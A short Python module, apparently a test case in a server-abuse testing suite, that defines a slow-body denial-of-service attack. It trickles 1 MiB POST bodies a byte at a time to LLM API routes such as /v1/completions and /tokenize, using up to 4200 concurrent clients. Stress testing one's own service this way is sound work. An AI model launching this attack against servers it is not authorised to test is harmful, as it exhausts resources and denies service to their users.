"""Bodies that arrive a byte every 0.2 s, on every route that reads one."""

from abuse.attack import Attack
from abuse.wire import Target, hold

_PATHS = (
    *("/v1/completions", "/v1/chat/completions", "/v1/responses", "/v1/messages", "/v1/embeddings"),
    *("/v1/score", "/v1/replay", "/tokenize", "/detokenize"),
)


async def once(target: Target, number: int) -> int:
    body = b'{"prompt": "' + b"a" * 4000
    head = target.head("POST", _PATHS[number % len(_PATHS)], 1 << 20)
    return await hold(target, head + body[:8], 30.0, trickle=body[8:])


ATTACK = Attack(__doc__, once, num_clients=(160, 4200), behind_proxy=True)
